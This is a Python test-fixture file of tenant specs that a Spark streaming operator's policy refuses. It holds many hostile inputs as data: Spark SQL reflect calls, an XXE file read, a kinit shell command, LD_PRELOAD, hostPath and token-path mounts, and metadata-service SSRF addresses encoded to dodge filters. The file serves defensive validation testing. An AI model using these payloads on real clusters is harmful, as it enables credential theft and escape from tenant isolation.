"""Specs a tenant must not get through: each refused with the rule it broke.

Shared by the unit tests (validate_spec with the default policy, the model's limits)
and the integration test that applies them to a real API server with the operator running.
"""

from __future__ import annotations

from contract.spec import SECRET_KEY_PATTERN
from testbed.specs import changed, query_spec

BASE = query_spec()
PVC = {"persistentVolumeClaim": {"claimName": "streamq-checkpoints"}}


def step(**transform) -> dict:
    """The base spec with one more transform step at the end."""
    return changed(BASE, {"transforms": [*BASE["transforms"], transform]})


def kafka_option(key: str, value: str, at: str = "source") -> dict:
    return changed(BASE, {f"{at}.kafka.options": {key: value}})


def pod(which: str = "driver", **fields) -> dict:
    """A spec whose runtime.<which> (driver or executors) has ``fields`` (placement and metadata)."""
    return changed(BASE, {f"runtime.{which}": fields})


def conf(**keys: str) -> dict:
    """A spec whose runtime.sparkConf holds ``keys`` (dots written as __)."""
    return changed(BASE, {"runtime.sparkConf": {k.replace("__", "."): v for k, v in keys.items()}})


# --- refused by the policy (the operator: Invalid, an event, no pod) -------------------------

# name: (spec, namespace, path, the rule the message names)
REFUSED_BY_POLICY = {
    "borrowed service account": (
        changed(BASE, {"runtime.serviceAccountName": "team-b-admin"}),
        "team-a",
        "spec.runtime.serviceAccountName",
        "policy.allowedServiceAccounts",
    ),
    "the operator's account in its namespace": (
        changed(BASE, {"runtime.serviceAccountName": "streamq-operator"}),
        "streamq-system",
        "spec.runtime.serviceAccountName",
        "policy.operatorServiceAccount",
    ),
    "the operator's account, namespace unknown": (
        changed(BASE, {"runtime.serviceAccountName": "streamq-operator"}),
        None,
        "spec.runtime.serviceAccountName",
        "policy.operatorServiceAccount",
    ),
    "hostPath of the node's root": (
        changed(BASE, {"checkpoint.volume": {"hostPath": "/"}}),
        "team-a",
        "spec.checkpoint.volume.hostPath",
        "policy.allowedVolumes",
    ),
    "hostPath of the kubelet's credentials": (
        changed(BASE, {"checkpoint.volume": {"hostPath": "/var/lib/kubelet/pki"}}),
        "team-a",
        "spec.checkpoint.volume.hostPath",
        "policy.allowedVolumes",
    ),
    "disallowed image": (
        changed(BASE, {"runtime.image": "evil.io/miner:1"}),
        "team-a",
        "spec.runtime.image",
        "policy.allowedImages",
    ),
    "the job image with another tag": (
        changed(BASE, {"runtime.image": "streamq:0.1.0-debug"}),
        "team-a",
        "spec.runtime.image",
        "policy.allowedImages",
    ),
    "spark.master override": (
        conf(spark__master="k8s://https://10.0.0.1:6443"),
        "team-a",
        "spec.runtime.sparkConf.spark.master",
        "policy.operatorSparkConf",
    ),
    "another namespace for executors": (
        conf(spark__kubernetes__namespace="kube-system"),
        "team-a",
        "spec.runtime.sparkConf.spark.kubernetes.namespace",
        "policy.operatorSparkConf",
    ),
    "executor pod template": (
        conf(spark__kubernetes__executor__podTemplateFile="/tmp/privileged.yaml"),
        "team-a",
        "spec.runtime.sparkConf.spark.kubernetes.executor.podTemplateFile",
        "policy.operatorSparkConf",
    ),
    "hostPath on executors through sparkConf": (
        conf(**{"spark__kubernetes__executor__volumes__hostPath__root__options__path": "/"}),
        "team-a",
        "spec.runtime.sparkConf.spark.kubernetes.executor.volumes.hostPath.root.options.path",
        "policy.operatorSparkConf",
    ),
    "executor image through sparkConf": (
        conf(spark__kubernetes__container__image="evil.io/miner:1"),
        "team-a",
        "spec.runtime.sparkConf.spark.kubernetes.container.image",
        "policy.operatorSparkConf",
    ),
    "10,000 executors through sparkConf": (
        conf(spark__executor__instances="10000"),
        "team-a",
        "spec.runtime.sparkConf.spark.executor.instances",
        "policy.operatorSparkConf",
    ),
    "dynamic allocation": (
        conf(spark__dynamicAllocation__maxExecutors="10000"),
        "team-a",
        "spec.runtime.sparkConf.spark.dynamicAllocation.maxExecutors",
        "policy.operatorSparkConf",
    ),
    "checkpoint location through sparkConf": (
        conf(spark__sql__streaming__checkpointLocation="/etc/streamq"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.streaming.checkpointLocation",
        "policy.operatorSparkConf",
    ),
    "driver extraJavaOptions": (
        conf(spark__driver__extraJavaOptions="-javaagent:/tmp/agent.jar"),
        "team-a",
        "spec.runtime.sparkConf.spark.driver.extraJavaOptions",
        "policy.refusedSparkConf",
    ),
    "executor extraClassPath": (
        conf(spark__executor__extraClassPath="/tmp/evil"),
        "team-a",
        "spec.runtime.sparkConf.spark.executor.extraClassPath",
        "policy.refusedSparkConf",
    ),
    "remote jars": (
        conf(spark__jars="https://evil.example/x.jar"),
        "team-a",
        "spec.runtime.sparkConf.spark.jars",
        "policy.refusedSparkConf",
    ),
    "jars from a Maven repository": (
        conf(spark__jars__packages="com.evil:x:1.0"),
        "team-a",
        "spec.runtime.sparkConf.spark.jars.packages",
        "policy.refusedSparkConf",
    ),
    "SQL extensions through the spark.sql.* allowance": (
        conf(spark__sql__extensions="com.evil.Extension"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.extensions",
        "policy.refusedSparkConf",
    ),
    "authentication off": (
        conf(spark__authenticate="false"),
        "team-a",
        "spec.runtime.sparkConf.spark.authenticate",
        "policy.refusedSparkConf",
    ),
    "Spark UI on a port": (
        conf(spark__ui__port="4040"),
        "team-a",
        "spec.runtime.sparkConf.spark.ui.port",
        "policy.refusedSparkConf",
    ),
    "executor environment": (
        conf(spark__executorEnv__LD_PRELOAD="/tmp/x.so"),
        "team-a",
        "spec.runtime.sparkConf.spark.executorEnv.LD_PRELOAD",
        "policy.refusedSparkConf",
    ),
    "a secret in sparkConf": (
        conf(spark__hadoop__fs__s3a__secret__key="AKIA..."),
        "team-a",
        "spec.runtime.sparkConf.spark.hadoop.fs.s3a.secret.key",
        "policy.secretSparkConf",
    ),
    "a JAAS config in sparkConf": (
        conf(**{"spark__kafka__sasl__jaas__config": "PlainLoginModule required password=x;"}),
        "team-a",
        "spec.runtime.sparkConf.spark.kafka.sasl.jaas.config",
        "policy.secretSparkConf",
    ),
    "an unknown Spark setting": (
        conf(spark__plugins__x="1"),
        "team-a",
        "spec.runtime.sparkConf.spark.plugins.x",
        "policy.allowedSparkConf",
    ),
    "more executors than the policy allows": (
        changed(BASE, {"runtime.executors": {"instances": 11}}),
        "team-a",
        "spec.runtime.executors.instances",
        "policy.maxExecutors",
    ),
    "more cores than the policy allows": (
        changed(BASE, {"runtime.executors": {"instances": 10, "cores": 8}}),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "more memory than the policy allows": (
        changed(BASE, {"runtime.executors": {"instances": 8, "memory": "16Gi"}}),
        "team-a",
        "spec.runtime",
        "policy.maxMemory",
    ),
    "checkpoint under the query document": (
        changed(BASE, {"checkpoint.location": "/etc/streamq/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "checkpoint volume over the account token": (
        changed(BASE, {"checkpoint": {"location": "/var/run/secrets/kubernetes.io/x", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "checkpoint volume over the job's code": (
        changed(BASE, {"checkpoint": {"location": "/opt/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "checkpoint in /proc as a file URI": (
        changed(BASE, {"checkpoint.location": "file:///proc/self/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "checkpoint path with ..": (
        changed(BASE, {"checkpoint.location": "/checkpoints/../etc/streamq/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "checkpoint volume over the driver's /tmp": (
        changed(BASE, {"checkpoint": {"location": "/tmp/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    # -- second pass (issue #26): what a query may call, read, mount and ask for -------------------
    # SQL functions outside the allow-list generated from Spark's registry
    "sql function: reflect loads a library": (
        step(sql="SELECT *, reflect('java.lang.System', 'load', '/tmp/x.so') AS r FROM input"),
        "team-a",
        "spec.transforms[3].sql",
        "policy.allowedSQLFunctions",
    ),
    "sql function: java_method in a where": (
        step(where="java_method('java.lang.Runtime', 'getRuntime') IS NOT NULL"),
        "team-a",
        "spec.transforms[3].where",
        "policy.allowedSQLFunctions",
    ),
    "sql function: try_reflect in withColumn": (
        step(withColumn={"name": "x", "expr": "try_reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY')"}),
        "team-a",
        "spec.transforms[3].withColumn.expr",
        "policy.allowedSQLFunctions",
    ),
    "sql function: reflect behind backticks and builtin.": (
        step(select=["builtin.`reflect`('java.lang.Thread', 'sleep', 100000) AS v"]),
        "team-a",
        "spec.transforms[3].select[0]",
        "policy.allowedSQLFunctions",
    ),
    "sql function: xpath with an external entity": (
        step(where="xpath_string('<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>', '/x') = ''"),
        "team-a",
        "spec.transforms[3].where",
        "policy.allowedSQLFunctions",
    ),
    "sql function: a protobuf descriptor from a file": (
        step(select=["from_protobuf(value, 'M', '/var/run/secrets/kubernetes.io/serviceaccount/token') AS v"]),
        "team-a",
        "spec.transforms[3].select[0]",
        "policy.allowedSQLFunctions",
    ),
    "sql function: the pod's user": (
        step(withColumn={"name": "who", "expr": "current_user()"}),
        "team-a",
        "spec.transforms[3].withColumn.expr",
        "policy.allowedSQLFunctions",
    ),
    "sql function: a name that is not Spark's (the input trick)": (
        step(sql="SELECT *, input('x') FROM input"),
        "team-a",
        "spec.transforms[3].sql",
        "policy.allowedSQLFunctions",
    ),
    "sql function: a function name from IDENTIFIER()": (
        step(where="IDENTIFIER('reflect')('java.lang.System', 'exit', 1) IS NULL"),
        "team-a",
        "spec.transforms[3].where",
        "policy.allowedSQLFunctions",
    ),
    # checkpoint paths, normalised before the roots are compared
    "path: a volume over /opt through //": (
        changed(BASE, {"checkpoint": {"location": "//opt/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "path: a volume over /run": (
        changed(BASE, {"checkpoint": {"location": "/run/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.checkpointRoots",
    ),
    "path: a volume over the driver's home": (
        changed(BASE, {"checkpoint": {"location": "/home/streamq/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.checkpointRoots",
    ),
    "path: a volume over /usr through . and ..": (
        changed(BASE, {"checkpoint": {"location": "/checkpoints/./../usr/lib/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.checkpointRoots",
    ),
    "path: a relative location": (
        changed(BASE, {"checkpoint": {"location": "../../opt/streamq/cp", "volume": PVC}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "path: no volume, in the image's Python": (
        changed(BASE, {"checkpoint.location": "/usr/lib/python3/dist-packages/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.checkpointRoots",
    ),
    "path: a file URI with a host": (
        changed(BASE, {"checkpoint.location": "file://opt/streamq/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.protectedPaths",
    ),
    "path: another application's volume": (
        changed(
            BASE,
            {"checkpoint": {"location": "/checkpoints/cp", "volume": {"persistentVolumeClaim": {"claimName": "postgres-data"}}}},
        ),
        "team-a",
        "spec.checkpoint.volume.persistentVolumeClaim.claimName",
        "policy.allowedClaims",
    ),
    # remote URIs
    "uri: credentials in the checkpoint URI": (
        changed(BASE, {"checkpoint.location": "s3a://AKIAEXAMPLE:wJalrXUtnFEMI@bucket/team-a/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.remoteCheckpointPrefixes",
    ),
    "uri: another namespace's prefix": (
        changed(BASE, {"checkpoint.location": "s3a://checkpoints/team-b/payments"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.remoteCheckpointPrefixes",
    ),
    "uri: .. out of the namespace's prefix": (
        changed(BASE, {"checkpoint.location": "s3a://checkpoints/team-a/../team-b/payments"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.remoteCheckpointPrefixes",
    ),
    "uri: an HTTP filesystem": (
        changed(BASE, {"checkpoint.location": "http://169.254.169.254/team-a/latest"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.remoteCheckpointPrefixes",
    ),
    # Kafka client settings outside the allow-list
    "kafka: a config provider reads files": (
        kafka_option("kafka.config.providers", "file"),
        "team-a",
        "spec.source.kafka.options.kafka.config.providers",
        "policy.allowedKafkaOptions",
    ),
    "kafka: a config-provider reference in a value": (
        kafka_option("kafka.client.id", "${file:/var/run/secrets/kubernetes.io/serviceaccount/token:x}"),
        "team-a",
        "spec.source.kafka.options.kafka.client.id",
        "policy.allowedKafkaOptions",
    ),
    "kafka: a tenant's SASL callback handler class": (
        kafka_option("kafka.sasl.login.callback.handler.class", "com.evil.Handler"),
        "team-a",
        "spec.source.kafka.options.kafka.sasl.login.callback.handler.class",
        "policy.allowedKafkaOptions",
    ),
    "kafka: a metric reporter class on the sink": (
        kafka_option("kafka.metric.reporters", "com.evil.Reporter", at="sink"),
        "team-a",
        "spec.sink.kafka.options.kafka.metric.reporters",
        "policy.allowedKafkaOptions",
    ),
    "kafka: an inline private key": (
        kafka_option("kafka.ssl.keystore.key", "-----BEGIN PRIVATE KEY-----MIIE...-----END PRIVATE KEY-----"),
        "team-a",
        "spec.source.kafka.options.kafka.ssl.keystore.key",
        "policy.allowedKafkaOptions",
    ),
    "kafka: a truststore read from the account token's path": (
        kafka_option("kafka.ssl.truststore.location", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
        "team-a",
        "spec.source.kafka.options.kafka.ssl.truststore.location",
        "policy.allowedKafkaOptions",
    ),
    "kafka: kinit runs a command": (
        kafka_option("kafka.sasl.kerberos.kinit.cmd", "/bin/sh -c id"),
        "team-a",
        "spec.source.kafka.options.kafka.sasl.kerberos.kinit.cmd",
        "policy.allowedKafkaOptions",
    ),
    "kafka: an OAuth token endpoint that is a file": (
        kafka_option("kafka.sasl.oauthbearer.token.endpoint.url", "file:///var/run/secrets/kubernetes.io/serviceaccount/token"),
        "team-a",
        "spec.source.kafka.options.kafka.sasl.oauthbearer.token.endpoint.url",
        "policy.allowedKafkaOptions",
    ),
    "kafka: an unknown client setting": (
        kafka_option("kafka.ssl.engine.factory.class", "com.evil.Factory"),
        "team-a",
        "spec.source.kafka.options.kafka.ssl.engine.factory.class",
        "policy.allowedKafkaOptions",
    ),
    # exactly-once: transactional ids and control topics are the operator's, per query
    "kafka: another query's transactional id": (
        kafka_option("kafka.transactional.id", "streamq.team-b.payments.0", at="sink"),
        "team-a",
        "spec.sink.kafka.options.kafka.transactional.id",
        "policy.transactionalNames",
    ),
    "kafka: writing into another query's control topic": (
        changed(BASE, {"sink.kafka.topic": "streamq.team-b.payments.eos-markers"}),
        "team-a",
        "spec.sink.kafka.topic",
        "policy.transactionalNames",
    ),
    "kafka: a topic Kafka cannot hold beside another query's control topic": (  # '.' and '_' collide in metrics
        changed(BASE, {"sink.kafka.topic": "streamq_team-b_payments_eos-markers"}),
        "team-a",
        "spec.sink.kafka.topic",
        "policy.transactionalNames",
    ),
    "kafka: a control topic of the names before namespace and query were kept apart": (
        changed(BASE, {"sink.kafka.topic": "streamq-team-b-payments-eos-markers"}),
        "team-a",
        "spec.sink.kafka.topic",
        "policy.transactionalNames",
    ),
    # capacity: what is requested counts
    "caps: coreRequest past maxCores": (
        changed(BASE, {"runtime.executors": {"instances": 10, "cores": 1, "coreRequest": "63"}}),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "caps: a driver's coreRequest past maxCores": (
        changed(BASE, {"runtime.driver": {"cores": 1, "coreRequest": "64"}}),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "caps: memory past maxMemory once Spark's overhead counts": (
        changed(BASE, {"runtime.executors": {"instances": 10, "memory": "6000Mi"}}),
        "team-a",
        "spec.runtime",
        "policy.maxMemory",
    ),
    "caps: no backoff": (
        changed(BASE, {"restartPolicy": {"backoff": {"initial": "0s", "max": "0s"}}}),
        "team-a",
        "spec.restartPolicy.backoff.initial",
        "policy.restarts",
    ),
    "caps: unlimited restarts": (
        changed(BASE, {"restartPolicy": {"maxRestarts": -1}}),
        "team-a",
        "spec.restartPolicy.maxRestarts",
        "policy.restarts",
    ),
    "caps: a stableAfter that resets the restart count at once": (
        changed(BASE, {"restartPolicy": {"stableAfter": "1s"}}),
        "team-a",
        "spec.restartPolicy.stableAfter",
        "policy.restarts",
    ),
    # caps count every driver that can run at once, each with its executors (contract.capacity):
    # a standby always, a warm upgrade's or blue/green's new driver at every spec change. Each spec
    # below keeps the caps when counted as one driver.
    "caps: a standby doubles the cores (32 alone, 64 with the standby)": (
        changed(
            BASE,
            {
                "checkpoint.volume": PVC,
                "runtime.standby": True,
                "runtime.driver": {"cores": 2},
                "runtime.executors": {"instances": 10, "cores": 3},
            },
        ),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "caps: a standby doubles the executors (6 alone, 12 with the standby)": (
        changed(BASE, {"checkpoint.volume": PVC, "runtime.standby": True, "runtime.executors": {"instances": 6}}),
        "team-a",
        "spec.runtime.executors.instances",
        "policy.maxExecutors",
    ),
    "caps: a standby doubles the memory (35.5Gi alone, 71Gi with the standby)": (
        changed(
            BASE,
            {
                "checkpoint.volume": PVC,
                "runtime.standby": True,
                "runtime.driver": {"memory": "8Gi"},
                "runtime.executors": {"instances": 5, "memory": "5Gi"},
            },
        ),
        "team-a",
        "spec.runtime",
        "policy.maxMemory",
    ),
    "caps: a standby's driver coreRequest counts twice": (
        changed(BASE, {"checkpoint.volume": PVC, "runtime.standby": True, "runtime.driver": {"cores": 1, "coreRequest": "17"}}),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "caps: a warm upgrade's second driver (the default on a shared checkpoint)": (
        changed(BASE, {"checkpoint.volume": PVC, "runtime.driver": {"cores": 17}}),
        "team-a",
        "spec.runtime",
        "policy.maxCores",
    ),
    "caps: blue/green's green driver beside blue": (
        changed(BASE, {"checkpoint.volume": PVC, "upgrade": {"strategy": "blueGreen"}, "runtime.driver": {"memory": "40Gi"}}),
        "team-a",
        "spec.runtime",
        "policy.maxMemory",
    ),
    "caps: a warm upgrade's driver memory in another unit": (
        changed(BASE, {"checkpoint.volume": PVC, "runtime.driver": {"memory": "35G"}}),
        "team-a",
        "spec.runtime",
        "policy.maxMemory",
    ),
    # where a query connects
    "endpoint: a broker on the cloud metadata address": (
        changed(BASE, {"source.kafka.bootstrapServers": "kafka:9092,169.254.169.254:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: an object store on the metadata host": (
        changed(
            BASE,
            {
                "checkpoint": {
                    "location": "s3a://bucket/team-a/cp",
                    "s3": {"endpoint": "http://metadata.google.internal/computeMetadata"},
                }
            },
        ),
        "team-a",
        "spec.checkpoint.s3.endpoint",
        "policy.deniedHosts",
    ),
    # hosts parsed, not matched: the metadata endpoint as the JVM and libc also read it (contract.hosts)
    "endpoint: decimal 2852039166 as a broker": (
        changed(BASE, {"source.kafka.bootstrapServers": "kafka:9092,2852039166:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: hex 0xa9fea9fe as the sink's broker": (
        changed(BASE, {"sink.kafka.bootstrapServers": "0xa9fea9fe:80"}),
        "team-a",
        "spec.sink.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: octal dotted 0251.0376.0251.0376": (
        changed(BASE, {"source.kafka.bootstrapServers": "0251.0376.0251.0376:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: the a.b.c form 169.254.43518": (
        changed(BASE, {"source.kafka.bootstrapServers": "169.254.43518:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: IPv4-mapped IPv6 in brackets": (
        changed(BASE, {"source.kafka.bootstrapServers": "[::ffff:169.254.169.254]:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: NAT64 64:ff9b::a9fe:a9fe": (
        changed(BASE, {"sink.kafka.bootstrapServers": "[64:ff9b::a9fe:a9fe]:80"}),
        "team-a",
        "spec.sink.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: AWS's IPv6 endpoint expanded, unbracketed": (
        changed(BASE, {"source.kafka.bootstrapServers": "fd00:ec2:0:0:0:0:0:254:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: upper case and a root dot on the store": (
        changed(
            BASE,
            {
                "checkpoint": {
                    "location": "s3a://bucket/team-a/cp",
                    "s3": {"endpoint": "http://METADATA.GOOGLE.INTERNAL./computeMetadata/v1"},
                }
            },
        ),
        "team-a",
        "spec.checkpoint.s3.endpoint",
        "policy.deniedHosts",
    ),
    "endpoint: instance-data, completed by a search domain": (
        changed(BASE, {"source.kafka.bootstrapServers": "instance-data:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: a pod record that spells the address": (
        changed(BASE, {"source.kafka.bootstrapServers": "169-254-169-254.kube-system.pod.cluster.local:80"}),
        "team-a",
        "spec.source.kafka.bootstrapServers",
        "policy.deniedHosts",
    ),
    "endpoint: an HDFS namenode on the metadata address": (
        changed(BASE, {"checkpoint.location": "hdfs://169.254.169.254:80/team-a/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.deniedHosts",
    ),
    "endpoint: an abfs account on the Azure metadata name": (
        changed(BASE, {"checkpoint.location": "abfss://container@metadata.azure.internal/team-a/cp"}),
        "team-a",
        "spec.checkpoint.location",
        "policy.deniedHosts",
    ),
    "endpoint: the bucket in front of the S3 endpoint's name": (
        changed(BASE, {"checkpoint": {"location": "s3a://metadata/team-a/cp", "s3": {"endpoint": "google.internal"}}}),
        "team-a",
        "spec.checkpoint.s3.endpoint",
        "policy.deniedHosts",
    ),
    "secret: another query's Lease account, even where any account is allowed": (
        changed(BASE, {"runtime.serviceAccountName": "payments-lease"}),
        "team-a",
        "spec.runtime.serviceAccountName",
        "policy.allowedServiceAccounts",
    ),
    # Secrets the tenant did not name for queries
    "secret: one the namespace's owners did not name for queries": (
        changed(BASE, {"sink.kafka.auth": {"secretRef": {"name": "db-admin"}}}),
        "team-a",
        "spec.sink.kafka.auth.secretRef.name",
        "policy.allowedSecrets",
    ),
    "secret: another query's Spark authentication key": (
        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "streamq-other-spark-auth"}}}),
        "team-a",
        "spec.source.kafka.auth.secretRef.name",
        "policy.allowedSecrets",
    ),
    "secret: a Kafka CA from a Secret not named for queries": (
        changed(BASE, {"source.kafka.tls": {"caSecretRef": {"name": "db-admin"}}}),
        "team-a",
        "spec.source.kafka.tls.caSecretRef.name",
        "policy.allowedSecrets",
    ),
    # Spark settings that load classes or change how SQL is read
    "conf: a catalog plugin class": (
        conf(spark__sql__catalog__evil="com.evil.Catalog"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.catalog.evil",
        "policy.refusedSparkConf",
    ),
    "conf: a state store provider class": (
        conf(spark__sql__streaming__stateStore__providerClass="com.evil.Store"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.streaming.stateStore.providerClass",
        "policy.refusedSparkConf",
    ),
    "conf: double-quoted identifiers hide function names": (
        conf(spark__sql__ansi__doubleQuotedIdentifiers="true"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.ansi.doubleQuotedIdentifiers",
        "policy.refusedSparkConf",
    ),
    "conf: legacy parser switches": (
        conf(spark__sql__legacy__setCommandRejectsSparkCoreConfs="false"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.legacy.setCommandRejectsSparkCoreConfs",
        "policy.refusedSparkConf",
    ),
    "conf: a value filled from the environment": (
        conf(spark__sql__session__timeZone="${env:AWS_SECRET_ACCESS_KEY}"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.session.timeZone",
        "policy.classSparkConf",
    ),
    "conf: a Kryo registrator class": (
        conf(spark__kryo__registrator="com.evil.Registrator"),
        "team-a",
        "spec.runtime.sparkConf.spark.kryo.registrator",
        "policy.classSparkConf",
    ),
    "conf: a class name as any value": (
        conf(spark__sql__streaming__metricsEnabled="com.evil.Gadget"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.streaming.metricsEnabled",
        "policy.classSparkConf",
    ),
    "conf: a listener class under spark.sql.*": (
        conf(spark__sql__streaming__ui__listener="com.evil.Listener"),
        "team-a",
        "spec.runtime.sparkConf.spark.sql.streaming.ui.listener",
        "policy.classSparkConf",
    ),
    # -- identity, not names (issue #35): what a word or an account is, not what it is called ----
    # functions Spark calls without parentheses (contract.sql.NILADIC_FUNCTIONS), backticked too
    "identity: user written alone in a where": (
        step(where="user IS NOT NULL"),
        "team-a",
        "spec.transforms[3].where",
        "policy.allowedSQLFunctions",
    ),
    "identity: current_user alone, a comment before the next token": (
        step(withColumn={"name": "who", "expr": "concat(current_user/**/, '')"}),
        "team-a",
        "spec.transforms[3].withColumn.expr",
        "policy.allowedSQLFunctions",
    ),
    "identity: session_user in backticks in a select": (
        step(select=["`session_user` AS who", "value"]),
        "team-a",
        "spec.transforms[3].select[0]",
        "policy.allowedSQLFunctions",
    ),
    "identity: USER upper case in a sql step": (
        step(sql="SELECT key, CAST(USER AS BINARY) AS value FROM input"),
        "team-a",
        "spec.transforms[3].sql",
        "policy.allowedSQLFunctions",
    ),
    "identity: user as a lambda's body": (
        step(withColumn={"name": "who", "expr": "transform(array(1), x -> user)"}),
        "team-a",
        "spec.transforms[3].withColumn.expr",
        "policy.allowedSQLFunctions",
    ),
    # the driver account creates and deletes pods: only for a driver that starts executors
    "identity: the driver account without executors": (
        changed(BASE, {"runtime.serviceAccountName": "streamq-driver"}),
        "team-a",
        "spec.runtime.serviceAccountName",
        "policy.allowedServiceAccounts",
    ),
    "identity: the driver account with zero executors written out": (
        changed(BASE, {"runtime.serviceAccountName": "streamq-driver", "runtime.executors": {"instances": 0}}),
        "team-a",
        "spec.runtime.serviceAccountName",
        "policy.allowedServiceAccounts",
    ),
    "identity: the driver account for a standby query without executors": (
        changed(BASE, {"runtime.serviceAccountName": "streamq-driver", "runtime.standby": True, "checkpoint.volume": PVC}),
        "team-a",
        "spec.runtime.serviceAccountName",
        "policy.allowedServiceAccounts",
    ),
    # derived values and node identity: what the operator derives from the spec (a fresh checkpoint
    # <location>-reset-<n>, the volume mounted at its parent) keeps the spec's location rules, and a
    # remote checkpoint writes with credentials of the namespace, never with the node's identity.
    # (A remote location that derives one outside the namespace's folder, s3a://bucket/<namespace> with
    # newCheckpoint or blueGreen, is refused too, but only in that namespace: tests/unit/app/test_derived.py.)
    "derived: a fresh checkpoint outside the checkpoint roots": (
        changed(BASE, {"checkpoint": {"location": "/tmp", "onIncompatibleChange": "newCheckpoint"}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.derivedLocations",
    ),
    "derived: a checkpoint volume mounted beside the roots": (
        changed(BASE, {"checkpoint": {"location": "/checkpoints", "volume": PVC, "onIncompatibleChange": "newCheckpoint"}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.derivedLocations",
    ),
    "derived: blue/green's volume mounted beside the roots": (
        changed(BASE, {"checkpoint": {"location": "//checkpoints/", "volume": PVC}, "upgrade": {"strategy": "blueGreen"}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.derivedLocations",
    ),
    "derived: a fresh checkpoint past the length limit": (
        changed(
            BASE,
            {
                "checkpoint": {
                    "location": "/checkpoints/" + "q" * (4096 - len("/checkpoints/")),
                    "onIncompatibleChange": "newCheckpoint",
                }
            },
        ),
        "team-a",
        "spec.checkpoint.location",
        "policy.derivedLocations",
    ),
    "node identity: an s3a checkpoint without credentials": (
        changed(BASE, {"checkpoint": {"location": "s3a://bucket/team-a/q"}}),
        "team-a",
        "spec.checkpoint.s3.credentials",
        "policy.allowNodeIdentity",
    ),
    "node identity: an s3a store without credentials": (
        changed(BASE, {"checkpoint": {"location": "s3a://bucket/team-a/q", "s3": {"region": "eu-west-1"}}}),
        "team-a",
        "spec.checkpoint.s3.credentials",
        "policy.allowNodeIdentity",
    ),
    "node identity: a gs checkpoint (no credentials of its own)": (
        changed(BASE, {"checkpoint": {"location": "gs://bucket/team-a/q"}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.allowNodeIdentity",
    ),
    "node identity: an hdfs checkpoint (the process's user)": (
        changed(BASE, {"checkpoint": {"location": "hdfs://namenode:8020/team-a/q"}}),
        "team-a",
        "spec.checkpoint.location",
        "policy.allowNodeIdentity",
    ),
    # a Secret named like an account's token: what it is, the operator reads (test_credentials_secrets.py)
    "identity: the driver account's token by its usual name": (
        changed(BASE, {"sink.kafka.auth": {"secretRef": {"name": "streamq-driver-token"}}}),
        "team-a",
        "spec.sink.kafka.auth.secretRef.name",
        "policy.allowedSecrets",
    ),
    "identity: a legacy token Secret's generated name": (
        changed(
            BASE,
            {
                "checkpoint": {
                    "location": "s3a://b/team-a/q",
                    "s3": {"credentials": {"secretRef": {"name": "streamq-reader-token-x7k2p"}}},
                }
            },
        ),
        "team-a",
        "spec.checkpoint.s3.credentials.secretRef.name",
        "policy.allowedSecrets",
    ),
    "identity: the driver account's token as a Kafka client certificate": (
        changed(BASE, {"sink.kafka.tls": {"clientCertificate": {"name": "streamq-driver-token", "keyKey": "token"}}}),
        "team-a",
        "spec.sink.kafka.tls.clientCertificate.name",
        "policy.allowedSecrets",
    ),
    "identity: a Lease account's token": (
        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "streamq-payments-lease-token"}}}),
        "team-a",
